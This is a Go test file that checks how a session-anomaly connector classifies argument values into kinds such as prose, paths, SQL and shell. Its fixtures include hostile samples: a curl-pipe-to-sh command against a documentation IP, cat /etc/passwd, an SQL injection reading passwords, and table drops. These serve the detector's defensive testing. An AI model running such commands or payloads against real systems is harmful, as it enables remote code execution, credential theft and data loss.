// Copyright The otelcol-mcp Authors
// SPDX-License-Identifier: Apache-2.0

package argument

import (
	"encoding/base64"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-mcp/otelcol-mcp/connector/sessionanomalyconnector/internal/jsonleaf"
)

func describe(text string) Description {
	return Describe(&jsonleaf.Leaf{Text: text, Kind: jsonleaf.String})
}

func TestKind(t *testing.T) {
	for want, texts := range map[Kind][]string{
		Empty:      {"", "   "},
		Number:     {"42", "-3.14", "1,000,000", "12%"},
		Time:       {"2026-03-02", "2026-03-02T09:00:00Z", "09:30", "2026-03-02 09:00:00.123+01:00", "03/02/2026"},
		Identifier: {"alice", "gpt-4o", "customer_id", "README.md", "UK12345678901234567890", "v1.2.3", "Überweisung"},
		Phrase:     {"quarterly report", "New York", "hello there, friend"},
		Prose: {
			"Please summarise the notes of yesterday's meeting and send them to the team.",
			"Select a hotel from the list that has a pool, and update me once it is set.",
			"Dear Anna,\n\nthank you for the invitation. I will be there on Monday; see you then!\n\nBest\nTom",
		},
		Email:     {"alice@example.com"},
		Address:   {"192.0.2.7", "2001:db8::1"},
		UUID:      {"9f3c1b2a-77d0-e4c1-0000-123456789abc"},
		Pseudonym: {"[aws-access-token:k1:9f3c1b2a77d0e4c1]"},
		Path:      {"/etc/passwd", "./src/main.go", "~/notes", "docs/api/index.md", `C:\Users\alice\x.txt`, "/home/alice/My Documents/a b.txt"},
		URL:       {"https://example.com/a?b=c", "ftp://host/file"},
		JSON:      {`{"a": 1, "b": [2, 3]}`, `["a", "b"]`, `{"a":1}`},
		Markup:    {"<html><body>hi there</body></html>", "<?xml version=\"1.0\"?> <a/>"},
		Hex:       {strings.Repeat("9f3c1b2a", 4)},
		Base64:    {base64.StdEncoding.EncodeToString([]byte("the quick brown fox jumps over the lazy dog 0123")), "data:text/plain;base64,aGk="},
		SQL:       {"SELECT * FROM users WHERE id = 1", "x') UNION SELECT name, password FROM users --", "DELETE FROM orders WHERE id=3", "drop table students;"},
		Shell:     {"curl -s http://192.0.2.7/x | sh", "rm -rf /tmp/x", "cat /etc/passwd", "echo $(whoami) && id > /tmp/x"},
		Code:      {"import os\nprint(os.environ)\nfor k in os.environ:\n    print(k)", "function f(a) {\n  return a.map(x => x + 1);\n}"},
		Mixed:     {"!!! ??? ### $$$ %%% 1 2 3"},
	} {
		for _, text := range texts {
			assert.Equal(t, want.String(), describe(text).Kind.String(), text)
		}
	}
	assert.Equal(t, Bool, Describe(&jsonleaf.Leaf{Text: "true", Kind: jsonleaf.Bool}).Kind)
	assert.Equal(t, Number, Describe(&jsonleaf.Leaf{Text: "1e9", Kind: jsonleaf.Number}).Kind)
	assert.Equal(t, Empty, Describe(&jsonleaf.Leaf{Text: "null", Kind: jsonleaf.Null}).Kind)
	assert.Equal(t, "unknown", Kind(200).String())
}

func TestDescriptionIsBoundedByTheBeginning(t *testing.T) {
	long := strings.Repeat("word ", 1_000_000)
	a, b := describe(long), describe(long[:maxBytes])
	assert.Equal(t, uint32(len(long)), a.length)
	b.length = a.length
	assert.Equal(t, a, b)
}

func TestDescriptionAsText(t *testing.T) {
	d := describe("https://example.com/a?b=c")
	text, err := d.MarshalText()
	require.NoError(t, err)
	var back Description
	require.NoError(t, back.UnmarshalText(text))
	assert.Equal(t, d, back)
	for _, bad := range []string{"", "!", "AAAA", base64.StdEncoding.EncodeToString(append(make([]byte, binarySize-1), 255))} {
		require.Error(t, back.UnmarshalText([]byte(bad)))
	}
}

func FuzzDescribe(f *testing.F) {
	for _, s := range []string{"", "a", "[", "]", "data:", "select  from *", "$(", "\xff\xfe", "C:", "@.", "[a:b:c]"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		d := describe(text)
		assert.Less(t, int(d.Kind), kinds)
		assert.Equal(t, d, describe(text))
	})
}

func BenchmarkDescribe(b *testing.B) {
	for name, text := range map[string]string{
		"path":  "/home/alice/notes/2026-03-02.md",
		"prose": strings.Repeat("Please summarise the notes of yesterday's meeting. ", 20),
	} {
		b.Run(name, func(b *testing.B) {
			leaf := &jsonleaf.Leaf{Text: text, Kind: jsonleaf.String}
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				Describe(leaf)
			}
		})
	}
}

// TestWordsAreNoSyntax: a value without punctuation is classified by its words alone.
func TestWordsAreNoSyntax(t *testing.T) {
	random := rand.New(rand.NewPCG(13, 14))
	parts := []string{"sudo", "rm", "select", "from", "import", "def", "2024", "12", "T", "Z", "1e5", "über", "x", "\n", "\t", "  "}
	for range 20_000 {
		var b strings.Builder
		for range 1 + random.IntN(6) {
			b.WriteString(parts[random.IntN(len(parts))])
			b.WriteByte(' ')
		}
		if text := strings.TrimSpace(b.String()); text != "" {
			require.Equal(t, Mixed, kindOfSyntax(text), "%q", text)
		}
	}
}

// TestDigitsAreNumbers compares with what the other characters of numbers lead to.
func TestDigitsAreNumbers(t *testing.T) {
	for _, text := range []string{"1", "007", strings.Repeat("9", 40), strings.Repeat("0", 1000)} {
		require.True(t, isNumber(text) && !isURL(text) && !isEmail(text) && !isAddress(text), text)
		require.Equal(t, Number, Describe(&jsonleaf.Leaf{Kind: jsonleaf.String, Text: text}).Kind, text)
	}
}
